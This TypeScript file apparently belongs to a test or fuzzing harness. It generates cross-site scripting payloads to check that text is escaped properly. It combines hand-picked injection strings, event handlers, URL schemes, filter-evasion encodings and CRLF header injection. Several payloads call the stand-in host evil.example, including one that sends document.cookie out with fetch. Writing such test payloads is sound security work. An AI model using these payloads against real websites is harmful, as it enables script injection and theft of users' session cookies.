/** What breaks out of a text where it is not escaped: hand-picked, and put together from parts. Each calls `pwned()` or asks `evil.example`. */
import type { Random } from '../faults/random.ts';

const CALLS = [
  'pwned()',
  'window.pwned()',
  'pwned`1`',
  "import('https://evil.example/x.js')",
  'top.pwned()',
  "fetch('https://evil.example/'+document.cookie)",
  'eval(atob("cHduZWQoKQ=="))',
];
const TAGS = [
  'img src=x',
  'svg',
  'svg/',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'marquee',
  'select autofocus',
  'textarea autofocus',
  'math',
  'a href=# id=x tabindex=1 autofocus',
  'style',
  'link rel=stylesheet href=https://evil.example/x.css',
  'xss',
  'video><source',
  'button popovertarget=x',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onmouseover',
  'onpageshow',
  'onscrollend',
  'onbeforetoggle',
  'ONERROR',
  'on\u0000error',
];
/** What stands before, to leave the place the text was put in. */
const ESCAPES = [
  '',
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '-->',
  ']]>',
  '" ',
  "' ",
  '`',
  '}',
  '</p>',
  '</noscript>',
];
const SCHEMES = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  '\u0001javascript:pwned()',
  'javascript&colon;pwned()',
  'javascript&#58;pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'vbscript:pwned()',
  'blob:https://evil.example/x',
  '//evil.example/x',
  '/\\evil.example/x',
  'https:evil.example',
];
const PICKED = [
  '<script>pwned()</script>',
  '<script src=https://evil.example/x.js></script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<svg><script>pwned()</script></svg>',
  '<svg><script href="data:,pwned()"/>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwned()"><text y=20>x',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<math><mi//xlink:href="javascript:pwned()">x',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '<template shadowrootmode=open><img src=x onerror=pwned()></template>',
  '<textarea><img title="</textarea><img src=x onerror=pwned()>">',
  '<title><a title="</title><img src=x onerror=pwned()>">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '"style="background:url(https://evil.example/x)"',
  '"style="animation-name:rotation"onanimationstart="pwned()"',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=prefetch href=https://evil.example/x>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<iframe src="javascript:parent.pwned()">',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<embed src=https://evil.example/x>',
  '<object data="data:text/html,<script>parent.pwned()</script>">',
  '<form action="https://evil.example/"><button autofocus>',
  '<button form=x formaction="javascript:pwned()">',
  '<input type=image src=https://evil.example/x>',
  '<img srcset="https://evil.example/x 1x">',
  '<a ping=https://evil.example/ href=/>x</a>',
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '"onfocus="pwned()"autofocus="',
  "'onfocus='pwned()'autofocus='",
  '</script><script>pwned()</script>',
  "';pwned();//",
  '";pwned();//',
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '<%= pwned() %>',
  '#{pwned()}',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '%3Cscript%3Epwned()%3C/script%3E',
  '%253Cscript%253Epwned()%253C/script%253E',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E',
  '<\u0000script>pwned()</script>',
  '<script\u2028>pwned()</script>',
  '\u202E<img src=x onerror=pwned()>',
  '<!--><img src=x onerror=pwned()>',
  '<!--[if IE]><script>pwned()</script><![endif]-->',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>',
  '__proto__',
  'a'.repeat(400) + '"><script>pwned()</script>',
  '\r\nset-cookie: x=y\r\n\r\n<script>pwned()</script>',
];

/** As many as asked for, the hand-picked ones first; without lone surrogates, which no URL can carry. */
export function makePayloads(count: number, random: Random): string[] {
  const payloads = new Set([...PICKED, ...SCHEMES]);
  while (payloads.size < count) payloads.add(generate(random));
  return [...payloads].slice(0, count);
}

function generate(random: Random): string {
  const escape = random.pick(ESCAPES);
  const call = random.pick(CALLS);
  const quote = random.pick(['', '"', "'"]);
  const gap = random.pick([' ', '/', '\n', '\t', '\f']);
  const handler = `${gap}${random.pick(HANDLERS)}=${quote}${call}${quote}`;
  const shapes = [
    () => `${escape}<${random.pick(TAGS)}${handler}>`,
    () => `${escape}<${random.pick(TAGS)}${handler}`,
    () => `${escape}<script>${call}</script>`,
    () => `${escape}${handler} x=`,
    () => `${escape}<a href=${quote}${random.pick(SCHEMES)}${quote}>x`,
    () => `${escape}<iframe src=${quote}${random.pick(SCHEMES)}${quote}>`,
    () => `${random.pick(PICKED)}${escape}<${random.pick(TAGS)}${handler}>`,
  ];
  return encode(random.pick(shapes)(), random);
}

function encode(text: string, random: Random): string {
  const at = random.below(text.length);
  const code = text.codePointAt(at)!;
  const encoded = [
    `&#${code};`,
    `&#x${code.toString(16)};`,
    `%${code.toString(16).padStart(2, '0')}`,
    `\\x${code.toString(16)}`,
    text[at]!.toUpperCase(),
  ];
  return random.below(3) > 0 ? text : text.slice(0, at) + random.pick(encoded) + text.slice(at + 1);
}
